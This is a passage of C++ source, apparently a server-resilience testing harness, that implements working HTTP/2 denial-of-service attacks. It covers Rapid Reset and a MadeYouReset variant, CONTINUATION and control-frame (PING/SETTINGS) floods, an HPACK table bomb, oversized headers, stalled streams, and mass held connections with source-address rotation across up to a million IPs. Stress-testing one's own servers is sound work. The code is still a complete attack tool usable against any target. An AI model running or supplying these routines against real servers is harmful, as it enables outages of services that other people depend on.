  void Refill(Connection& connection) override {
    // The entry must fit the server's table, whose size its SETTINGS say.
    if (!connection.settings_received) return;
    if (!connection.StreamIdsLeft(1)) {
      connection.script_done = true;
      return;
    }
    State& state = static_cast<State&>(*connection.state);
    std::string block = header_block_;
    if (!state.entry_inserted) {
      const int64_t room = connection.header_table_size -
                           static_cast<int64_t>(hpack::kEntryOverhead + kEntryName.size());
      if (room <= 0) {
        connection.script_done = true;  // the server keeps no dynamic table
        return;
      }
      const size_t value_bytes = std::min<size_t>(entry_value_bytes_, static_cast<size_t>(room));
      hpack::AppendLiteralWithIndexing(&block, kEntryName, std::string(value_bytes, 'b'));
      state.entry_inserted = true;
    }
    // Our other fields are literals without indexing: the entry stays the newest,
    // index 62, one byte (0xbe).
    for (size_t k = 0; k < references_per_block_; ++k) {
      hpack::AppendIndexed(&block, hpack::kFirstDynamicIndex);
    }
    std::string bytes;
    Counts counts;
    const uint32_t id = connection.NewStreamId();
    AppendHeaderBlockFrames(&bytes, &counts, id, block, connection.max_frame_size, 0);
    http2::AppendFrame(&bytes, http2::kRstStream, 0, id, http2::BigEndian32(http2::kErrorCancel));
    ++counts.frames;
    ++counts.resets;
    connection.Queue(std::move(bytes), counts);
  }

 private:
  struct State : ScriptState {
    bool entry_inserted = false;
  };

  const std::string header_block_;
  const size_t entry_value_bytes_;
  const size_t references_per_block_;
};

class ControlFloodScript : public Script {
 public:
  static constexpr int kFramesPerBatch = 512;

  explicit ControlFloodScript(ControlFloodOptions::Kind kind) : kind_(kind) {}

  void Refill(Connection& connection) override {
    std::string bytes;
    for (int frame = 0; frame < kFramesPerBatch; ++frame) {
      if (kind_ == ControlFloodOptions::Kind::kPing) {
        ++pings_;
        const std::string opaque =
            absl::StrCat(http2::BigEndian32(static_cast<uint32_t>(pings_ >> 32)),
                         http2::BigEndian32(static_cast<uint32_t>(pings_)));
        http2::AppendFrame(&bytes, http2::kPing, 0, 0, opaque);
      } else {
        const std::string setting =
            absl::StrCat(absl::string_view("\0\x04", 2), http2::BigEndian32(http2::kDefaultWindow));
        http2::AppendFrame(&bytes, http2::kSettings, 0, 0, setting);
      }
    }
    connection.Queue(std::move(bytes),
                     Counts{.frames = kFramesPerBatch, .control_frames = kFramesPerBatch});
  }

 private:
  const ControlFloodOptions::Kind kind_;
  uint64_t pings_ = 0;
};

}  // namespace

absl::StatusOr<std::vector<std::string>> ParseSourceAddresses(absl::string_view text) {
  constexpr uint64_t kMaxAddresses = 1 << 20;
  std::vector<std::string> addresses;
  for (absl::string_view item : absl::StrSplit(text, ',', absl::SkipWhitespace())) {
    std::vector<absl::string_view> ends = absl::StrSplit(item, absl::MaxSplits('-', 1));
    absl::StatusOr<uint32_t> first = ParseIpv4(ends[0]);
    if (!first.ok()) return first.status();
    absl::StatusOr<uint32_t> last = ends.size() == 2 ? ParseIpv4(ends[1]) : first;
    if (!last.ok()) return last.status();
    if (*last < *first) {
      return absl::InvalidArgumentError(absl::StrCat("empty address range \"", item, "\""));
    }
    if (addresses.size() + (uint64_t{*last} - *first + 1) > kMaxAddresses) {
      return absl::InvalidArgumentError("more than 1048576 source addresses");
    }
    for (uint64_t address = *first; address <= *last; ++address) {
      addresses.push_back(FormatIpv4(static_cast<uint32_t>(address)));
    }
  }
  return addresses;
}

std::string AttackStats::ToKeyValues() const {
  const auto seconds = [](absl::Duration duration) {
    if (duration == absl::InfiniteDuration()) return std::string("none");
    return absl::StrFormat("%.3f", absl::ToDoubleSeconds(duration));
  };
  return absl::StrCat(
      "elapsed_s=", seconds(elapsed), " connections_opened=", connections_opened,
      " connect_failures=", connect_failures,
      " connections_closed_by_server=", connections_closed_by_server,
      " first_server_close_s=", seconds(first_server_close_after),
      " closed_lifetime_min_s=", seconds(closed_connection_lifetime_min),
      " closed_lifetime_median_s=", seconds(closed_connection_lifetime_median),
      " closed_lifetime_max_s=", seconds(closed_connection_lifetime_max),
      " abandoned_after_goaway=", connections_abandoned_after_goaway, " bytes_sent=", bytes_sent,
      " frames_sent=", frames_sent, " streams_opened=", streams_opened,
      " resets_sent=", resets_sent, " header_block_bytes_sent=", header_block_bytes_sent,
      " data_bytes_sent=", data_bytes_sent, " control_frames_sent=", control_frames_sent,
      " bytes_received=", bytes_received, " settings_received=", settings_received,
      " settings_acks_received=", settings_acks_received, " pings_received=", pings_received,
      " ping_acks_received=", ping_acks_received,
      " window_updates_received=", window_updates_received, " goaways_received=", goaways_received,
      " last_goaway_error=", last_goaway_error, " resets_received=", resets_received,
      " last_reset_error=", last_reset_error, " headers_received=", headers_received,
      " data_frames_received=", data_frames_received,
      " server_max_concurrent_streams=", server_max_concurrent_streams,
      " server_initial_window_size=", server_initial_window_size,
      // Last, and one word: "connect:_Connection_refused".
      first_connect_error.empty() ? "" : " first_connect_error=",
      absl::StrReplaceAll(first_connect_error, {{" ", "_"}}));
}

absl::StatusOr<AttackStats> RapidReset(const RapidResetOptions& options) {
  absl::StatusOr<Endpoints> endpoints = ResolveEndpoints(options.connect);
  if (!endpoints.ok()) return endpoints.status();
  absl::Status valid = CheckConnections(options.connections);
  if (!valid.ok()) return valid;
  RapidResetScript script(
      EncodeHeaderBlock(GrpcRequestHeaders(options.request, options.connect.target)),
      options.made_you_reset);
  EngineOptions engine{.connections = options.connections,
                       .duration = options.duration,
                       .reconnect = options.reconnect};
  return Engine(options.connect, *std::move(endpoints), engine, script).Run();
}

absl::StatusOr<AttackStats> StalledStreams(const StalledStreamsOptions& options) {
  absl::StatusOr<Endpoints> endpoints = ResolveEndpoints(options.connect);
  if (!endpoints.ok()) return endpoints.status();
  absl::Status valid = CheckConnections(options.connections);
  if (!valid.ok()) return valid;
  if (options.streams_per_connection < 1 || options.streams_per_connection > (1 << 20)) {
    return absl::InvalidArgumentError("streams_per_connection must be between 1 and 1048576");
  }
  StalledStreamsScript script(
      options, EncodeHeaderBlock(GrpcRequestHeaders(options.request, options.connect.target)));
  EngineOptions engine{.connections = options.connections, .duration = options.hold};
  return Engine(options.connect, *std::move(endpoints), engine, script).Run();
}

absl::StatusOr<AttackStats> HugeHeader(const HugeHeaderOptions& options) {
  absl::StatusOr<Endpoints> endpoints = ResolveEndpoints(options.connect);
  if (!endpoints.ok()) return endpoints.status();
  if (options.frame_payload_bytes < 1 || options.frame_payload_bytes > (1 << 24) - 1) {
    return absl::InvalidArgumentError("frame_payload_bytes must be between 1 and 2^24-1");
  }
  std::string block_start =
      EncodeHeaderBlock(GrpcRequestHeaders(options.request, options.connect.target));
  block_start.push_back('\0');  // a literal without indexing, new name
  hpack::AppendInteger(&block_start, 0x00, 7, options.header_name.size());
  block_start.append(options.header_name);
  hpack::AppendInteger(&block_start, 0x00, 7, options.header_value_bytes);
  HugeHeaderScript script(options, std::move(block_start));
  EngineOptions engine{.connections = 1, .duration = options.timeout, .stop_when_done = true};
  return Engine(options.connect, *std::move(endpoints), engine, script).Run();
}

absl::StatusOr<AttackStats> ContinuationFlood(const ContinuationFloodOptions& options) {
  absl::StatusOr<Endpoints> endpoints = ResolveEndpoints(options.connect);
  if (!endpoints.ok()) return endpoints.status();
  absl::Status valid = CheckConnections(options.connections);
  if (!valid.ok()) return valid;
  if (options.headers_per_frame < 1 || options.headers_per_frame > 1000) {
    return absl::InvalidArgumentError("headers_per_frame must be between 1 and 1000");
  }
  ContinuationFloodScript script(
      options, EncodeHeaderBlock(GrpcRequestHeaders(options.request, options.connect.target)));
  EngineOptions engine{.connections = options.connections,
                       .duration = options.duration,
                       .reconnect = options.reconnect};
  return Engine(options.connect, *std::move(endpoints), engine, script).Run();
}

absl::StatusOr<AttackStats> HpackBomb(const HpackBombOptions& options) {
  absl::StatusOr<Endpoints> endpoints = ResolveEndpoints(options.connect);
  if (!endpoints.ok()) return endpoints.status();
  absl::Status valid = CheckConnections(options.connections);
  if (!valid.ok()) return valid;
  if (options.entry_value_bytes < 1 || options.references_per_block < 1 ||
      options.references_per_block > (size_t{1} << 26)) {
    return absl::InvalidArgumentError(
        "entry_value_bytes must be positive, references_per_block between 1 and 2^26");
  }
  HpackBombScript script(
      options, EncodeHeaderBlock(GrpcRequestHeaders(options.request, options.connect.target)));
  EngineOptions engine{.connections = options.connections,
                       .duration = options.duration,
                       .reconnect = options.reconnect};
  return Engine(options.connect, *std::move(endpoints), engine, script).Run();
}

absl::StatusOr<AttackStats> ControlFlood(const ControlFloodOptions& options) {
  absl::StatusOr<Endpoints> endpoints = ResolveEndpoints(options.connect);
  if (!endpoints.ok()) return endpoints.status();
  absl::Status valid = CheckConnections(options.connections);
  if (!valid.ok()) return valid;
  ControlFloodScript script(options.kind);
  EngineOptions engine{.connections = options.connections,
                       .duration = options.duration,
                       .reconnect = options.reconnect,
                       .read_server_frames = options.read_replies};
  return Engine(options.connect, *std::move(endpoints), engine, script).Run();
}

absl::StatusOr<std::unique_ptr<HeldConnections>> HeldConnections::Open(const HoldOptions& options) {
  absl::StatusOr<Endpoints> endpoints = ResolveEndpoints(options.connect);
  if (!endpoints.ok()) return endpoints.status();
  if (options.connections < 0 || options.connections > (1 << 20) ||
      options.max_connects_in_flight < 1) {
    return absl::InvalidArgumentError(
        "connections must be between 0 and 1048576, max_connects_in_flight positive");
  }
  // Our own descriptors must outnumber the server's.
  rlimit limit{};
  if (getrlimit(RLIMIT_NOFILE, &limit) == 0) {
    const rlim_t wanted = static_cast<rlim_t>(options.connections) + 64;
    if (limit.rlim_cur < wanted) {
      limit.rlim_cur = std::min(wanted, limit.rlim_max);
      setrlimit(RLIMIT_NOFILE, &limit);
    }
  }

  std::unique_ptr<HeldConnections> held(new HeldConnections());
  SourceRotation sources(std::move(endpoints->sources), options.connect.rotate_sources);
  std::string preface(http2::kClientPreface);
  http2::AppendFrame(&preface, http2::kSettings, 0, 0, "");
  const auto failed = [&](const absl::Status& status) {
    if (held->first_connect_error_.empty()) {
      held->first_connect_error_ = std::string(status.message());
    }
  };
  const auto established = [&](int fd) {
    ++held->opened_;
    // 33 bytes into an empty send buffer: never short, and a failure shows later
    // as a close.
    if (options.send_preface) send(fd, preface.data(), preface.size(), MSG_NOSIGNAL);
    held->fds_.push_back(fd);
  };

  struct Pending {
    int fd;
    absl::Time deadline;
  };
  std::vector<Pending> pending;
  std::vector<pollfd> polled;
  const absl::Time start = absl::Now();
  int next = 0;
  while (next < options.connections || !pending.empty()) {
    while (next < options.connections &&
           static_cast<int>(pending.size()) < options.max_connects_in_flight) {
      ++held->attempted_;
      bool connected = false;
      absl::StatusOr<int> fd = StartConnect(sources.Next(next), endpoints->target,
                                            options.connect.socket_send_buffer_bytes, &connected);
      ++next;
      if (!fd.ok()) {
        failed(fd.status());
      } else if (connected) {
        established(*fd);
      } else {
        pending.push_back(Pending{*fd, absl::Now() + options.connect.connect_timeout});
      }
    }
    if (pending.empty()) continue;
    polled.clear();
    absl::Time earliest = absl::InfiniteFuture();
    for (const Pending& connecting : pending) {
      polled.push_back(pollfd{connecting.fd, POLLOUT, 0});
      earliest = std::min(earliest, connecting.deadline);
    }
    const absl::Duration wait = std::clamp(earliest - absl::Now(), absl::ZeroDuration(), kPollTick);
    poll(polled.data(), polled.size(), static_cast<int>(absl::ToInt64Milliseconds(wait)) + 1);
    const absl::Time now = absl::Now();
    std::vector<Pending> still_pending;
    for (size_t k = 0; k < pending.size(); ++k) {
      if (polled[k].revents != 0) {
        absl::Status result = ConnectResult(pending[k].fd);
        if (result.ok()) {
          established(pending[k].fd);
        } else {
          failed(result);
          close(pending[k].fd);
        }
      } else if (now >= pending[k].deadline) {
        failed(absl::UnavailableError("connect: timed out"));
        close(pending[k].fd);
      } else {
        still_pending.push_back(pending[k]);
      }
    }
    pending.swap(still_pending);
  }
  held->connecting_took_ = absl::Now() - start;
  return held;
}

int HeldConnections::CheckClosedByServer() {
  std::vector<pollfd> polled;
  std::vector<size_t> index;
  for (size_t k = 0; k < fds_.size(); ++k) {
    if (fds_[k] < 0) continue;
    polled.push_back(pollfd{fds_[k], POLLRDHUP, 0});
    index.push_back(k);
  }
  if (polled.empty() || poll(polled.data(), polled.size(), 0) <= 0) return closed_by_server_;
  for (size_t k = 0; k < polled.size(); ++k) {
    // FIN (POLLRDHUP) or reset (POLLERR, POLLHUP), whatever the server sent before.
    if ((polled[k].revents & (POLLRDHUP | POLLHUP | POLLERR)) == 0) continue;
    close(fds_[index[k]]);
    fds_[index[k]] = -1;
    ++closed_by_server_;
  }
  return closed_by_server_;
}

void HeldConnections::Close() {
  for (int& fd : fds_) {
    if (fd >= 0) close(fd);
    fd = -1;
  }
}

HeldConnections::~HeldConnections() { Close(); }

absl::StatusOr<absl::Duration> ProbeHttp2Server(const ConnectOptions& connect,
                                                absl::Duration timeout) {
  absl::StatusOr<Endpoints> endpoints = ResolveEndpoints(connect);
  if (!endpoints.ok()) return endpoints.status();
  const absl::Time start = absl::Now();
  const absl::Time deadline = start + timeout;
  std::optional<sockaddr_in> source;
  if (!endpoints->sources.empty()) source = endpoints->sources.front();
  absl::StatusOr<int> fd =
      ConnectWithTimeout(source, endpoints->target, std::min(timeout, connect.connect_timeout), 0);
  if (!fd.ok()) return fd.status();
  std::string hello(http2::kClientPreface);
  http2::AppendFrame(&hello, http2::kSettings, 0, 0, "");
  absl::StatusOr<absl::Duration> result =
      absl::DeadlineExceededError("no SETTINGS from the server");
  if (send(*fd, hello.data(), hello.size(), MSG_NOSIGNAL) != static_cast<ssize_t>(hello.size())) {
    result = ErrnoError("send", errno);
  }
  std::string inbox;
  while (result.status().code() == absl::StatusCode::kDeadlineExceeded) {
    const absl::Time now = absl::Now();
    if (now >= deadline) break;
    pollfd readable{*fd, POLLIN, 0};
    if (poll(&readable, 1, static_cast<int>(absl::ToInt64Milliseconds(deadline - now)) + 1) <= 0) {
      continue;
    }
    char buffer[4096];
    const ssize_t received = recv(*fd, buffer, sizeof(buffer), MSG_DONTWAIT);
    if (received == 0 || (received < 0 && errno != EAGAIN && errno != EINTR)) {
      result = absl::UnavailableError("the server closed the connection");
      break;
    }
    if (received < 0) continue;
    inbox.append(buffer, static_cast<size_t>(received));
    // Frames before SETTINGS are skipped (a server sends SETTINGS first, but
    // nothing here depends on it).
    while (inbox.size() >= http2::kFrameHeaderBytes) {
      const size_t length = ReadBigEndian(inbox, 3);
      if (static_cast<uint8_t>(inbox[3]) == http2::kSettings &&
          (static_cast<uint8_t>(inbox[4]) & http2::kFlagAck) == 0) {
        result = absl::Now() - start;
        break;
      }
      if (inbox.size() < http2::kFrameHeaderBytes + length) break;
      inbox.erase(0, http2::kFrameHeaderBytes + length);
    }
  }
  close(*fd);
  return result;
}

}  // namespace omd::testing
